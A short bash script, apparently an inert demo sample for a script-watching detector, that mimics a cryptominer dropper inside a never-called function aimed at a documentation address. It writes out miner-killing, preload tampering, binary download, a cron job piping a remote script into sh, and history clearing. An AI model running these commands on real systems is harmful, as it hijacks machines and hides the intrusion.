#!/bin/bash
# Looks like a miner's installer; the function is never called, and the address is of a documentation network.
echo > "${SCRIPTWATCH_DEMO_MARKER:-/dev/null}"
mine() {
  pkill -f kinsing; pkill -9 kdevtmpfsi; killall -9 xmrig
  chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload
  curl -fsSL http://192.0.2.77/xmrig -o /tmp/.X11-unix/kworker || wget -q http://192.0.2.77/xmrig -O /tmp/.X11-unix/kworker
  chmod +x /tmp/.X11-unix/kworker
  nohup /tmp/.X11-unix/kworker -o stratum+tcp://192.0.2.77:3333 -u wallet --donate-level 1 -B > /dev/null 2>&1 &
  (crontab -l 2>/dev/null; echo "* * * * * curl -fsSL http://192.0.2.77/i.sh | sh") | crontab -
  history -c
}
true
